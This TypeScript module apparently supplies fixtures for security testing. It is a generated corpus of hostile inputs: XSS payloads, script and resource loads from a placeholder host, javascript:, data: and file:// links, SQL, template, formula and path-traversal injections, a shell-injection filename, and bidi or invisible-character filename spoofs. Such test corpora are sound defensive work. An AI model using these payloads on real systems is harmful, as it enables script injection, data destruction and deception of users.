/** Texts that try to be more than text, made from a table. None of them holds half a character: no dataset can. */

const HOST = 'http://tracker.invalid';
const RUN = 'window.ran=1;alert(1)';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const CARRIERS: readonly (readonly [start: string, end: string])[] = [
  ['<img src=x ', '>'],
  ['<svg ', '>'],
  ['<svg><image href=x ', '/></svg>'],
  ['<video><source ', '></video>'],
  ['<body ', '>'],
  ['<details open ', '><summary>x</summary></details>'],
  ['<input autofocus ', '>'],
  ['<math ', '><mi>x</mi></math>'],
  ['" autofocus ', ' x="'],
  ["' ", " x='"],
];
const ELEMENTS = [
  ...[
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${HOST}/a.js></SCRIPT>`,
    `<script type=module>import '${HOST}/a.js'</script>`,
  ],
  ...[
    `<svg><script>${RUN}</script></svg>`,
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>">`,
  ],
  ...[
    `<object data="${HOST}/a.swf">`,
    `<embed src="${HOST}/a.swf">`,
    `<base href="${HOST}/">`,
    `<link rel=stylesheet href=${HOST}/a.css>`,
  ],
  ...[
    `<link rel=preload as=image href=${HOST}/a.png>`,
    `<meta http-equiv=refresh content="0;url=${HOST}">`,
    `<style>@import url(${HOST}/a.css)</style>`,
  ],
  ...[
    `<form action=${HOST}><button autofocus>x</button></form>`,
    `<img src=${HOST}/a.png>`,
    `<img srcset="${HOST}/a.png 2x">`,
  ],
  ...[
    `<video poster=${HOST}/a.png autoplay>`,
    `<audio src=${HOST}/a.mp3 autoplay>`,
    `<table background=${HOST}/a.png>`,
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
];
const BREAKOUTS = [
  ...[
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
  ],
  ...[
    '</textarea><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
  ],
  ...[
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent
    '${alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '{"__proto__":{"ran":1}}',
    '__proto__',
  ],
  ...[
    'constructor',
    "'; DROP TABLE span; --",
    '%s%n%x',
    '../../../../etc/passwd',
    "=cmd|'/C calc'!A0",
    '@SUM(1+1)*cmd',
    '-2+3',
    '+1',
  ],
];
const LINKS = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript&colon;alert(1)',
    'vbscript:x',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'file:///etc/passwd',
    '//tracker.invalid',
    HOST,
  ],
].flatMap((url) => [`<a href="${url}">press</a>`, `[press](${url})`, `![picture](${url})`]);
const COLOURS = [
  ...[
    `red;background:url(${HOST}/a.png)`,
    `#fff;}*{background:url(${HOST}/b.png)}`,
    'expression(alert(1))',
    `url(${HOST}/c.png)`,
  ],
  ...[
    '}</style><script>alert(1)</script>',
    `var(--x,url(${HOST}/d.png))`,
    '@import "x"',
    'color-mix(in srgb, red, blue)',
  ],
].map((value) => `<b style="color:${value}">${value}</b>`);

const character = (code: number) => String.fromCodePoint(code);
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
const SIGNS = [
  ...[...range(0x200e, 0x200f), ...range(0x202a, 0x202e), ...range(0x2066, 0x2069), 0x061c],
  ...[0x00ad, 0x034f, 0x180e, ...range(0x200b, 0x200d), ...range(0x2060, 0x2064), 0xfeff, 0x3164, 0x2800],
  ...[...range(0x00, 0x08), ...range(0x0b, 0x0c), ...range(0x0e, 0x1f), 0x7f, 0x80, 0x85, 0x9b, 0x2028, 0x2029],
  ...[0xfff9, 0xfffb, 0xfffe, 0xffff, 0x1fffe, 0xe0001, 0xe0041, 0xe000, 0x10ffff],
].map((code) => `invoice${character(code)}txt.exe`);

const LONG = [
  `Z${'\u0301\u0325\u0489'.repeat(200)}algo`,
  `e${'\u0301'.repeat(5000)}`,
  '👩\u200d'.repeat(500),
  '🇩'.repeat(501),
  'ﷺ'.repeat(400),
  'x'.repeat(1900),
  `${'\u202e'.repeat(300)}flip`,
  `${'\u2067'.repeat(200)}nest`,
  '\u{1f3f4}\u{e0067}\u{e0062}'.repeat(50),
];

export const PAYLOADS: readonly string[] = [
  ...CARRIERS.flatMap(([start, end]) => HANDLERS.map((handler) => `${start}${handler}="${RUN}"${end}`)),
  ...[...ELEMENTS, ...BREAKOUTS, ...LINKS, ...COLOURS, ...SIGNS, ...LONG],
];

/** Texts that are heavy, not wily. */
export const HEAVY: Readonly<Record<string, string>> = {
  'emoji.txt': `${'👩\u200d'.repeat(1_000_000)}\nHe said so.`,
  'one-line.txt': 'He said that it would rain if the wind turned. '.repeat(220_000),
  'blank-lines.txt': `He said so.${'\n'.repeat(1_000_000)}The end.`,
};

/** Names of files as a stranger may give them; `/` and NUL can be in none. */
export const FILE_NAMES: readonly string[] = [
  'report\u202etxt.exe.txt',
  '<img src=x onerror=alert(1)>.txt',
  '"; rm -rf ~;".txt',
  'a\nb.txt',
  '\u200b\u200b.txt',
  'javascript:alert(1).txt',
  '__proto__.txt',
  '--help.txt',
  '..\\..\\up.txt',
  `${'n'.repeat(240)}.txt`,
];
